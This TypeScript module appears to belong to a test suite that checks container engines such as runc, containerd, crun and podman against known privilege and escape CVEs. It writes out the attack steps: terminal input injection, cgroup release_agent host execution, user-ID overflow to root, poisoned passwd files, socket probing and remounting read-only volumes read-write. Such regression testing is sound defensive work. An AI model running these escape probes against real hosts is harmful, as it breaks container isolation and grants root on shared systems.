/**
 * Attacks of a command in a container on what it shares with the host: capabilities, users, groups, terminals, sockets.
 *
 * @module
 */

import { type Attack, sh } from "./attack.ts";
import { exists, link, read, runHost } from "./scene.ts";
import { quote, runOrder } from "./engines.ts";

/** The kernel's PROC_CGROUP_INIT_INO. */
const FIRST = "cgroup:[4026531835]";
const INHERITABLE = /^CapInh:\s*0*[1-9a-f]/m;

export const PRIVILEGES: readonly Attack[] = [
  {
    id: "CVE-2017-5226",
    engine: "bubblewrap",
    title: "TIOCSTI types into the terminal of the caller",
    order: () => ({ args: ["/attack", "tiocsti", "0"], callersTerminal: true }),
    succeeded: (_, { output }) => output.includes("typed: injected"),
  },
  {
    id: "CVE-2019-10063",
    engine: "flatpak",
    title: "the same with bits above the 32 that a filter compares",
    order: () => ({ args: ["/attack", "tiocsti", "1"], callersTerminal: true }),
    succeeded: (_, { output }) => output.includes("typed: injected"),
  },
  {
    id: "CVE-2022-0492",
    alone: true,
    engine: "kernel, runc",
    title: "release_agent of a v1 control group has the kernel execute a program of the host",
    uncontrolled: () =>
      Deno.readLinkSync("/proc/self/ns/cgroup") === FIRST
        ? undefined
        : "hierarchies are made in the first cgroup namespace",
    prepare: ({ host }) =>
      Deno.writeTextFile(`${host}/agent`, `#!/bin/sh\necho executed >${host}/executed\n`, { mode: 0o755 }),
    order: ({ host }) => ({ args: ["/attack", "agent", `${host}/agent`] }),
    succeeded: ({ host }) => exists(`${host}/executed`),
  },
  {
    id: "CVE-2023-25809",
    alone: true,
    engine: "runc (rootless)",
    title: "a control group is made where the container sees the hierarchies",
    order: () => ({
      cgroups: true,
      args: sh(
        "for d in $(sed -n 's/^[^ ]* \\([^ ]*\\) cgroup2* .*/\\1/p' /proc/self/mounts); do " +
          "mkdir $d/sauropod-escape 2>/dev/null && echo MADE in $d && rmdir $d/sauropod-escape; done",
      ),
    }),
    succeeded: (_, { output }) => output.includes("MADE"),
  },
  {
    id: "CVE-2022-24769",
    engine: "docker, containerd",
    title: "the command has inheritable capabilities",
    order: () => ({ args: sh("grep Cap /proc/self/status") }),
    succeeded: (_, { output }) => INHERITABLE.test(output),
  },
  {
    id: "CVE-2022-29162",
    engine: "runc",
    title: "what is executed in a running container has inheritable capabilities",
    needs: ["exec"],
    async attempt(scene, engine) {
      await using live = await engine.live?.(scene, { args: ["/bin/busybox", "sleep", "20"] });
      return await live?.exec(sh("grep Cap /proc/self/status")) ?? { code: 1, output: "" };
    },
    succeeded: (_, { output }) => INHERITABLE.test(output),
  },
  {
    id: "CVE-2026-30892",
    engine: "crun",
    title: "exec as user 1 is taken for user 0",
    needs: ["exec"],
    async attempt(scene, engine) {
      await using live = await engine.live?.(scene, { args: ["/bin/busybox", "sleep", "20"] });
      return await live?.exec(sh("echo UID=$(id -u)"), "1") ?? { code: 1, output: "" };
    },
    succeeded: (_, { output }) => /UID=0\b/.test(output),
  },
  {
    id: "CVE-2023-25173",
    engine: "containerd",
    title: "supplementary groups: the caller's are kept, or the user's are not set and what is denied to them is read",
    needs: ["users by name"],
    async prepare({ rootfs }) {
      await Deno.writeTextFile(`${rootfs}/denied`, "not for staff\n", { mode: 0o604 });
      await Deno.chown(`${rootfs}/denied`, 0, 50);
      await Deno.chmod(`${rootfs}/denied`, 0o604);
    },
    order: () => ({ user: "alice", args: sh("echo GROUPS=$(id -G); cat /denied") }),
    succeeded: (_, { output }) => /GROUPS=.*\b4444\b/.test(output) || output.includes("not for staff"),
  },
  {
    id: "CVE-2024-40635",
    engine: "containerd",
    title: "a user number above 32 bits overflows to 0",
    order: () => ["4294967296", "4294967296:4294967296"].map((user) => ({ user, args: sh("echo UID=$(id -u)") })),
    succeeded: (_, { output }) => /UID=0\b/.test(output),
  },
  {
    id: "CVE-2026-46680",
    engine: "containerd",
    title: "a user number above 32 bits is taken for a name, which the image's passwd says is root",
    needs: ["images"],
    prepare: ({ rootfs }) => Deno.writeTextFile(`${rootfs}/etc/passwd`, "4294967297:x:0:0::/:/bin/sh\n"),
    order: () => ({ image: { User: "4294967297" }, args: sh("echo UID=$(id -u)") }),
    succeeded: (_, { output }) => /UID=0\b/.test(output),
  },
  {
    id: "CVE-2024-9676",
    engine: "podman, buildah",
    title: "/etc/passwd and group of the image lead to a FIFO: the engine waits for ever",
    needs: ["users by name"],
    async prepare({ host, rootfs }) {
      await runHost(["mkfifo", `${host}/fifo`, `${rootfs}/etc/fifo`]);
      await link(`${host}/fifo`, `${rootfs}/etc/passwd`);
    },
    async attempt(scene, engine) {
      const args = sh("true"), order = { args, user: "alice", timeout: 4000 };
      const first = await runOrder(engine, scene, order);
      if (first.code === 124) return first;
      for (const name of ["passwd", "group"]) await link("fifo", `${scene.rootfs}/etc/${name}`);
      return await runOrder(engine, scene, order);
    },
    succeeded: (_, { code }) => code === 124,
  },
  {
    id: "CVE-2020-15257",
    alone: true,
    engine: "containerd",
    title: "on the host's network the engine's abstract sockets are found and connected to",
    needs: ["detached containers"],
    async attempt(scene, engine) {
      const before = new Set((await Deno.readTextFile("/proc/net/unix")).match(/@\S+/g));
      await using live = await engine.live?.(scene, { args: ["/bin/busybox", "sleep", "20"], network: "host" });
      void live;
      const made = (await Deno.readTextFile("/proc/net/unix")).match(/@\S+/g)?.filter((name) => !before.has(name)) ??
        [];
      const all = await Promise.all(
        (made.length > 0 ? made.slice(0, 5) : ["@nothing was made"]).map((name) =>
          runOrder(engine, scene, { args: ["/attack", "connect", name.slice(1)], network: "host" })
        ),
      );
      return { code: 0, output: all.map(({ output }) => output).join("") };
    },
    succeeded: (_, { output }) => output.includes("connected to"),
  },
  {
    id: "CVE-2026-46695",
    engine: "boxlite",
    title: "a read-only volume is mounted read-write again, as root and as root of a user namespace",
    async prepare({ room }) {
      await Deno.mkdir(`${room}/own`);
      await Deno.writeTextFile(`${room}/own/file`, "mine");
    },
    order: ({ room }) => {
      const write = "mount -o remount,rw,bind /data; mount -o remount,rw /data; echo changed >/data/file";
      const nested = `unshare -Ur -m sh -c ${quote(write)}`;
      return { args: sh(`${write}; ${nested}`), volumes: [{ source: `${room}/own`, target: "/data", readOnly: true }] };
    },
    succeeded: ({ room }) => read(`${room}/own/file`) !== "mine",
  },
];
